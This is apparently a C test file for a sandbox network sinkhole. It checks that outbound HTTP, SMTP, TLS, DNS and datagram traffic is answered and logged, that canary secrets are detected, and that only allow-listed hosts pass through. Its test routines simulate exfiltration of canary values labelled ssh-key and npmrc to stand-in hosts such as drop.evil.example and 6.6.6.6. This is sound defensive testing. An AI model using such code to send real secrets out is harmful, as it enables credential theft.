/* Those who are answered: HTTP, SMTP, TLS and datagrams in a sinkhole, and the hosts of --allow-host. */
#include "sinkhole_cases.h"

#include <arpa/inet.h>
#include <openssl/pem.h>
#include <openssl/ssl.h>
#include <openssl/x509v3.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <cmocka.h>

/* --- Answering ------------------------------------------------------------------------------------------ */

static int
fetch(SP_UNUSED void *argument)
{
    char address[46], answer[2048];
    CHECK(resolve("api.example", AF_INET, address));
    int fd = connect_to(address, 80, SOCK_STREAM);
    static const char head[] = "POST /v1?q=1 HTTP/1.1\r\nHost: api.example\r\nAccept: application/json\r\n"
                               "Transfer-Encoding: chunked\r\n\r\n4\r\nab";
    CHECK(say(fd, head, strlen(head)));
    usleep(20000);
    CHECK(say(fd, "cd\r\n0\r\n\r\n", 9));
    CHECK(read_all(fd, answer, sizeof(answer)) > 0 && strstr(answer, "200 OK") &&
          strstr(answer, "\r\n\r\n{}"));
    fd = connect_to("93.184.216.34", 8080, SOCK_STREAM);
    static const char get[] = "GET / HTTP/1.0\r\nAccept: text/html\r\n\r\n";
    CHECK(say(fd, get, strlen(get)) && read_all(fd, answer, sizeof(answer)) > 0 &&
          strstr(answer, "Length: 0"));

    fd = connect_to("10.9.8.7", 587, SOCK_STREAM);
    static const char *const letter[] = {
        "EHLO me\r\n", "MAIL FROM:<a@b>\r\n", "RCPT TO:<boss@evil.example>\r\n",
        "DATA\r\n",    "secrets\r\n.\r\n",    "QUIT\r\n"
    };
    static const char *const said[] = { "250", "250", "250", "354", "250", "221" };
    CHECK(recv(fd, answer, sizeof(answer), 0) > 4 && !strncmp(answer, "220 ", 4));
    for (size_t i = 0; i < SP_COUNT(letter); i++)
        CHECK(say(fd, letter[i], strlen(letter[i])) && recv(fd, answer, sizeof(answer), 0) > 3 &&
              !strncmp(answer, said[i], 3));

    fd = connect_to("8.8.4.4", 9999, SOCK_DGRAM);
    CHECK(say(fd, "marco", 5) && recv(fd, answer, 100, 0) == 5 && !memcmp(answer, "marco", 5));
    fd = connect_to("2001:db8::5", 7, SOCK_DGRAM);
    CHECK(say(fd, "polo!", 5) && recv(fd, answer, 100, 0) == 5 && !memcmp(answer, "polo!", 5));
    unsigned char ntp[48] = { 0x23 };
    ntp[47] = 9;
    fd = connect_to("162.159.200.1", 123, SOCK_DGRAM);
    CHECK(say(fd, ntp, 48) && recv(fd, answer, 100, 0) == 48 && (answer[0] & 7) == 4 && answer[31] == 9);
    uint32_t seconds;
    memcpy(&seconds, answer + 40, 4);
    CHECK((time_t)(ntohl(seconds) - 2208988800u) >= time(NULL) - 5);
    return 0;
}

void
a_sinkhole_answers(SP_UNUSED void **state)
{
    struct room room;
    open_sinkhole(&room);
    room_run(&room, fetch, NULL);
    const struct seen_event *post =
        assert_seen(&room, SP_EVENT_CONNECTION, "api.example", 80, "POST /v1?q=1 HTTP/1.1, Host api.example");
    assert_int_equal(post->value, 1);
    assert_seen(&room, SP_EVENT_CONNECTION, "93.184.216.34", 8080, "GET / HTTP/1.0");
    assert_seen(&room, SP_EVENT_CONNECTION, "10.9.8.7", 587, "boss@evil.example");
    assert_seen(&room, SP_EVENT_DATAGRAM, "8.8.4.4", 9999, "marco");
    assert_seen(&room, SP_EVENT_DATAGRAM, "162.159.200.1", 123, NULL);
    room_close(&room);
}

struct tls_call {
    const char *pem, *name, *body;
    bool trusts;
};

static int
call_by_tls(void *argument)
{
    const struct tls_call *call = argument;
    char address[46], answer[1024], request[512];
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    if (call->trusts) {
        BIO *memory = BIO_new_mem_buf(call->pem, -1);
        X509 *authority = PEM_read_bio_X509(memory, NULL, NULL, NULL);
        CHECK(authority && X509_STORE_add_cert(SSL_CTX_get_cert_store(context), authority));
    }
    SSL_CTX_set_verify(context, SSL_VERIFY_PEER, NULL);
    CHECK(resolve(call->name, AF_INET6, address));
    int fd = connect_to(address, 443, SOCK_STREAM);
    SSL *ssl = SSL_new(context);
    SSL_set_fd(ssl, fd);
    SSL_set_tlsext_host_name(ssl, call->name);
    SSL_set1_host(ssl, call->name);
    static const unsigned char protocols[] = "\x02h2\x08http/1.1";
    SSL_set_alpn_protos(ssl, protocols, sizeof(protocols) - 1);
    CHECK((SSL_connect(ssl) == 1) == call->trusts);
    if (!call->trusts)
        return 0;
    const unsigned char *chosen;
    unsigned chosen_length;
    SSL_get0_alpn_selected(ssl, &chosen, &chosen_length);
    CHECK(chosen_length == 8 && !memcmp(chosen, "http/1.1", 8));
    int length =
        snprintf(request, sizeof(request), "PUT /drop HTTP/1.1\r\nHost: %s\r\nContent-Length: %zu\r\n\r\n%s",
                 call->name, strlen(call->body), call->body);
    CHECK(SSL_write(ssl, request, length) == length);
    int got = SSL_read(ssl, answer, sizeof(answer) - 1);
    CHECK(got > 12 && !strncmp(answer, "HTTP/1.1 200", 12));
    CHECK(SSL_read(ssl, answer, 1) <= 0 && SSL_get_error(ssl, 0) == SSL_ERROR_ZERO_RETURN);
    return 0;
}

void
tls_is_answered_under_the_run_s_authority(SP_UNUSED void **state)
{
    struct sp_error err = { 0 };
    struct sp_sinkhole_authority *authority;
    if (sp_sinkhole_authority_make(&authority, &err) < 0)
        fail_msg("%s", err.text);
    struct tls_call call = { sp_sinkhole_authority_pem(authority), "drop.evil.example", "x=" CANARY, true };
    struct tls_call doubting = { call.pem, "pinned.example", "", false };
    struct room room;
    open_or_skip(&room,
                 &(struct room_wishes){
                     .options = { .net = SP_NET_SINKHOLE, .decoys = &test_decoys, .authority = authority } });
    for (int i = 0; i < 3; i++)
        room_run(&room, call_by_tls, &call);
    room_run(&room, call_by_tls, &doubting);
    const struct seen_event *put = assert_seen(&room, SP_EVENT_CONNECTION, "drop.evil.example", 443,
                                               "PUT https://drop.evil.example/drop");
    assert_int_equal(put->value, 1);
    assert_seen(&room, SP_EVENT_CANARY, "drop.evil.example:443", 443, "ssh-key");
    assert_seen(&room, SP_EVENT_CONNECTION, "pinned.example", 443, "our certificate was not taken");
    room_close(&room);
    char directory[] = "/tmp/sallyport-test-XXXXXX", path[64];
    assert_non_null(mkdtemp(directory));
    assert_int_equal(sp_sinkhole_authority_write(authority, directory, &err), 0);
    snprintf(path, sizeof(path), "%s/sinkhole.crt", directory);
    assert_int_equal(unlink(path), 0);
    rmdir(directory);
    sp_sinkhole_authority_free(authority);
}

/* --- Canaries ------------------------------------------------------------------------------------------- */

static int
leak(SP_UNUSED void *argument)
{
    char answer[512];
    int fd = connect_to("6.6.6.6", 80, SOCK_STREAM);
    static const char head[] = "POST / HTTP/1.1\r\nContent-Length: 70048\r\n\r\n";
    static char filler[70000];
    memset(filler, 'x', sizeof(filler));
    CHECK(say(fd, head, strlen(head)) && say(fd, filler, sizeof(filler)));
    usleep(30000);
    CHECK(say(fd, CANARY, 10));
    usleep(50000); /* cut in two */
    CHECK(say(fd, &CANARY[10], 14));
    CHECK(say(fd, OTHER_CANARY, 24));
    CHECK(read_all(fd, answer, sizeof(answer)) > 0);
    unsigned char reply[512];
    CHECK(ask("8.8.8.8", "qm7xt2vKp9.LwRz4NcY8sHd3B.t.evil.example", 1, reply) > 0);
    fd = connect_to("8.8.8.8", 514, SOCK_DGRAM);
    CHECK(say(fd, "log " CANARY, 28));
    return 0;
}

void
a_canary_is_found_over_writes_labels_and_datagrams(SP_UNUSED void **state)
{
    struct room room;
    open_sinkhole(&room);
    room_run(&room, leak, NULL);
    assert_seen(&room, SP_EVENT_CANARY, "6.6.6.6:80", 80, "ssh-key");
    assert_seen(&room, SP_EVENT_CANARY, "6.6.6.6:80", 80, "npmrc");
    assert_seen(&room, SP_EVENT_CANARY, "qm7xt2vkp9.lwrz4ncy8shd3b.t.evil.example", 53, "ssh-key");
    assert_seen(&room, SP_EVENT_CANARY, "8.8.8.8:514", 514, "ssh-key");
    assert_int_equal(room_count(&room, SP_EVENT_CANARY), 4);
    room_close(&room);
}

/* --- --allow-host --------------------------------------------------------------------------------------- */

#define BIG ((size_t)3 << 20)

struct far { /* a host outside */
    uint16_t port;
    int listener;
};

static int
dial_near(void *context, const char *host, uint16_t port, struct sp_error *err)
{
    struct far *far = context;
    if (strcmp(host, "cdn.example.org") || port != 443)
        return sp_fail(err, SP_ERROR_INTERNAL, "dialled %s:%u", host, port);
    return connect_to("127.0.0.1", far->port, SOCK_STREAM);
}

/* Reads the hello and BIG bytes slowly, then sends BIG bytes back. */
static void
be_far(struct far *far, size_t hello)
{
    int fd = accept(far->listener, NULL, NULL);
    static char bytes[65536];
    size_t have = 0;
    ssize_t got;
    bool right = true;
    while ((got = recv(fd, bytes, sizeof(bytes), 0)) > 0) {
        for (ssize_t i = 0; i < got; i++)
            right &= have + (size_t)i < hello || bytes[i] == (char)((have + (size_t)i - hello) * 7 >> 3);
        have += (size_t)got;
        if (have < BIG / 4)
            usleep(1000);
    }
    right &= have == hello + BIG && got == 0;
    memset(bytes, right ? 'r' : 'w', sizeof(bytes));
    for (size_t sent = 0; sent < BIG; sent += sizeof(bytes))
        say(fd, bytes, sizeof(bytes));
    _exit(0);
}

static int
download(SP_UNUSED void *argument)
{
    unsigned char hello[2048];
    char address[46];
    static char bytes[65536];
    size_t length = write_hello(hello, sizeof(hello), "CDN.example.org");
    CHECK(resolve("cdn.example.org", AF_INET, address));
    int fd = connect_to(address, 443, SOCK_STREAM);
    CHECK(say(fd, hello, 7));
    usleep(600000); /* longer than others are heard */
    CHECK(say(fd, hello + 7, length - 7));
    for (size_t at = 0; at < BIG; at += sizeof(bytes)) {
        for (size_t i = 0; i < sizeof(bytes); i++)
            bytes[i] = (char)((at + i) * 7 >> 3);
        CHECK(say(fd, bytes, sizeof(bytes)));
    }
    shutdown(fd, SHUT_WR);
    size_t have = 0;
    ssize_t got;
    while ((got = recv(fd, bytes, sizeof(bytes), 0)) > 0) {
        for (ssize_t i = 0; i < got; i++)
            CHECK(bytes[i] == 'r');
        have += (size_t)got;
    }
    CHECK(got == 0 && have == BIG);

    /* none of these is the allowed host */
    length = write_hello(hello, sizeof(hello), "evil.example");
    CHECK((fd = connect_to(address, 443, SOCK_STREAM)) >= 0 && say(fd, hello, length) && is_refused(fd));
    length = write_hello(hello, sizeof(hello), NULL);
    CHECK((fd = connect_to(address, 443, SOCK_STREAM)) >= 0 && say(fd, hello, length) && is_refused(fd));
    static const char plain[] = "GET / HTTP/1.1\r\nHost: cdn.example.org\r\n\r\n";
    CHECK((fd = connect_to(address, 80, SOCK_STREAM)) >= 0 && say(fd, plain, strlen(plain)) &&
          is_refused(fd));
    length = write_hello(hello, sizeof(hello), "cdn.example.org");
    CHECK((fd = connect_to("1.2.3.4", 4443, SOCK_STREAM)) >= 0 && say(fd, hello, length) && is_refused(fd));
    return 0;
}

void
an_allowed_host_is_passed_through_untouched(SP_UNUSED void **state)
{
    static const char *const allow[] = { "*.example.org", NULL };
    struct far far = { 0 };
    unsigned char hello[2048];
    far.listener = listen_on("127.0.0.1", &far.port, SOCK_STREAM);
    size_t length = write_hello(hello, sizeof(hello), "CDN.example.org");
    struct room room;
    open_or_skip(&room, &(struct room_wishes){ .options = { .net = SP_NET_REGISTRY,
                                                            .allow_hosts = allow,
                                                            .dial = dial_near,
                                                            .dial_context = &far } });
    pid_t host = fork();
    if (!host)
        be_far(&far, length);
    room_run(&room, download, NULL);
    const struct seen_event *passed = assert_seen(&room, SP_EVENT_PASSED, "cdn.example.org", 443, NULL);
    assert_int_equal(passed->bytes, length + BIG);
    assert_int_equal(passed->value, BIG);
    assert_seen(&room, SP_EVENT_CONNECTION, "cdn.example.org", 443, "TLS to evil.example");
    assert_seen(&room, SP_EVENT_CONNECTION, "cdn.example.org", 443, "no server name");
    assert_seen(&room, SP_EVENT_CONNECTION, "cdn.example.org", 80, "GET / HTTP/1.1, Host cdn.example.org");
    assert_seen(&room, SP_EVENT_CONNECTION, "1.2.3.4", 4443, "outside: dialled cdn.example.org:4443");
    assert_int_equal(room_count(&room, SP_EVENT_PASSED), 1);
    room_close(&room);
    kill(host, SIGKILL);
    waitpid(host, NULL, 0);
    close(far.listener);
}
